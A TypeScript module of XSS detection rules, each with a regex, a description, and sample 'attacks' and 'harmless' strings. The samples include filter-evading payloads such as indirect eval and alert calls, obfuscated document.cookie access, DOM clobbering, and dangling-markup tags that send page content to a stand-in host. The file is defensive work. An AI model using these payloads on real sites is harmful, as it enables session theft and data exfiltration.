import type { Rule } from './rule';
import type { Subject } from './subject';

/** A longer text is read in windows, and ends where one is cut. */
const MAX_LENGTH = 2000;
const DANGLING =
  /^<[a-z][a-z0-9]{0,20}[\s/](?:[^"'<>]|"[^"<>]{0,200}"|'[^'<>]{0,200}'){0,200}=\s{0,3}["'](?:\d{1,3};\s{0,3}url=)?(?:https?:)?\/\/[^"'<>\s]{1,200}\?(?:[\w-]{1,20}=)?$/i;

/** The rest of the page becomes part of an address, as far as the next quote. */
function danglingMarkup({ text }: Subject): number {
  const tag = text.length > MAX_LENGTH ? -1 : text.lastIndexOf('<');
  return tag >= 0 && DANGLING.test(text.slice(tag)) ? tag : -1;
}

export const xssIndirectRules: readonly Rule[] = [
  {
    id: 'xss-indirect-call',
    version: 1,
    category: 'xss',
    severity: 'critical',
    sees: 'A function that proves an injection or runs a text, called without its name before the parenthesis: out of a list, handed to another function, in a template or as a getter.',
    ignores: 'The names in prose, and as values of JSON.',
    source: 'ECMAScript',
    inDocuments: 'notice',
    inPasswords: false,
    needs: [
      [
        ...[
          'alert',
          'confirm',
          'prompt',
          'eval',
          'print',
          'function(',
          'function`',
          'settimeout`',
          'setinterval`',
        ],
        ...['constructor`', '=>'],
      ],
      ['[', '${', '.call', '.apply', '.map', ':', '(', '`'],
    ],
    find: /\[\s?(?:alert|confirm|prompt|eval|print)\s?\](?:\[|\.\w)|\$\{\s?(?:alert|confirm|prompt|eval|print)\s?\}|\.(?:call|apply|map)\([^()\n]{0,40},\s{0,3}(?:alert|confirm|prompt|eval|print)\b|[{,]\s?(?:get|set|toString|valueOf)\s?:\s?(?:alert|confirm|prompt|eval|print)\s?[,}]|\bFunction\(\s?["'`][^"'`\n]{1,200}["'`]\s?\)\s?[(`]|\(\s?\d\s?,\s?eval\s?\)|(?<!`)\b(?:Function|setTimeout|setInterval|constructor|eval)`[^`\s]{0,60}[(\\][^`\s]{0,60}`|["'`]\s?[-+*;|&^]{1,2}\s?\(\(\w{0,20}\)\s?=>/i,
    attacks: [
      '[alert][0](1)',
      '[].map.call(`1`,alert)',
      'Array.from`1${alert}3${window}2`',
      "Object.defineProperty(window,'x',{get:alert});x",
      "Function('go()')()",
      "(1,eval)('go()')",
      'Set.constructor`go()`()',
      '"-(()=>{go(1)})()-"',
    ],
    harmless: [
      'an [alert] in brackets',
      '{"get":"alert"}',
      '.map((alert) => alert.id)',
      "a Function('x') of time",
      '${alertText}',
      'the constructor `Set` of ES6',
      'on("x", (event) => {})',
    ],
  },
  {
    id: 'xss-indirect-access',
    version: 1,
    category: 'xss',
    severity: 'critical',
    sees: 'Access to the page through a name that comments or parentheses stand behind, that is put together from pieces, or by assigning to it in brackets.',
    ignores: 'The names in prose, and members with other names.',
    source: 'ECMAScript; filters that look for names',
    inDocuments: 'notice',
    inPasswords: false,
    needs: [
      ['document', 'window', 'self', 'top', 'parent', 'globalthis', 'frames', 'this', 'location.'],
      ['[', '/*', ')', '('],
    ],
    find: /\bdocument\s{0,3}(?:\/\*[^*]{0,40}\*\/[\s.?]{0,9}|\)(?:\?\.|\.)?)(?:\/\*[^*]{0,40}\*\/\s{0,3})?(?:\[\s?["'`]|cookie\b|write|domain\b|location\b|body\b|URL\b)|\bdocument\[\s?["'`]\w{0,8}["'`]\s?\+|\b(?:window|self|top|parent|globalThis|frames|this)(?:\?\.)?\[\s?(?:["'`](?:location|name|onerror|eval)["'`]\s?\]\s?=[^=]|["'`]\w{0,8}["'`]\s?\+[^\]\n]{1,12}\]\s?\?\.[(`])|\bwith\s?\(\s?document\s?\)|\blocation\.(?:assign|replace)\(\s?["'`]/i,
    attacks: [
      'document/*x*/./*y*/cookie',
      "(document)['cookie']",
      "document['coo'+'kie']",
      "window['location']='//a.example'",
      "top?.['al'+'ert']?.(1)",
      'with(document)cookie',
      "location.assign('//a.example')",
    ],
    harmless: [
      '(see the document). Cookie policy',
      'document /* draft */ of the day',
      "window['dataLayer']=[]",
      'this[name] = 5',
      'with (documents)',
    ],
  },
  {
    id: 'xss-framework-attribute',
    version: 1,
    category: 'xss',
    severity: 'critical',
    sees: 'An attribute that Vue, Alpine, Angular or htmx evaluate as code, with a call or an assignment in it.',
    ignores: 'Attributes that name something.',
    source: 'Manuals of Vue, Alpine, AngularJS and htmx',
    inDocuments: 'notice',
    inPasswords: false,
    needs: [['<'], ['='], ['@', 'v-', 'x-', 'ng-', 'hx-on']],
    find: /<[a-z][^<>]{0,200}[\s/"'](?:@[a-z][a-z.:-]{1,30}|v-(?:on:[a-z.:-]{2,30}|html|if|show)|x-(?:init|data|html|effect|on:[a-z.:-]{2,30})|(?:data-)?ng-(?:init|click|focus|blur|mouse[a-z]{2,5}|key[a-z]{2,5}|change|copy|cut|paste)|hx-on[:a-z-]{0,30})\s?=\s?["']?[^"'<>]{0,60}[(`=]/i,
    attacks: [
      '<x @click=$el.ownerDocument.defaultView.go()>',
      '<p x-data x-init="go()">',
      "<p v-html='a()'>",
    ],
    harmless: ['<a href="mailto:kate@example.com">', '<p v-show="open">', '<p x-data="menu">', 'a@b=c()'],
  },
  {
    id: 'xss-clobbering',
    version: 1,
    category: 'xss',
    severity: 'critical',
    inDocuments: 'notice',
    inPasswords: false,
    sees: 'An element whose name is that of a member of the document, which scripts of the page get in its place.',
    ignores: 'Names that forms have: `location`, `body`, `title`.',
    source: 'HTML standard, named access on the document',
    needs: [
      ['<'],
      ['name', 'id'],
      [
        'cookie',
        'createelement',
        'getelement',
        'queryselector',
        'documentelement',
        'parentnode',
        'childnodes',
        'nodename',
        'innerhtml',
        'currentscript',
        'defaultview',
      ],
    ],
    find: /<(?:img|form|a|object|embed|iframe|input)\s[^<>]{0,100}\b(?:id|name)\s?=\s?["']?(?:cookie|createElement|getElement(?:ById|sBy\w{3,10})|querySelector(?:All)?|documentElement|parentNode|childNodes|nodeName|innerHTML|currentScript|defaultView)["'\s>/]/,
    attacks: ['<img name=cookie>', '<form id="x"><input name="parentNode"></form>'],
    harmless: ['<input name="location">', '<a id="cookie-policy">', '<p id="cookie">'],
  },
  {
    id: 'xss-dangling-markup',
    version: 1,
    category: 'xss',
    severity: 'critical',
    sees: 'A tag at the end of a value whose last attribute, an address elsewhere that ends in a query, nothing closes.',
    ignores: 'Tags that are closed, and texts that were cut off inside of a path.',
    source: 'HTML standard, attribute values',
    inDocuments: 'notice',
    inPasswords: false,
    needs: [['<'], ['//'], ['?']],
    find: danglingMarkup,
    attacks: ["<img src='//a.example/?", '"><img src="https://a.example/log?html='],
    harmless: [
      '<img src="https://example.com/a.png?v=1">',
      '<a href="https://example.com/photo',
      'a < b //c?',
    ],
  },
];
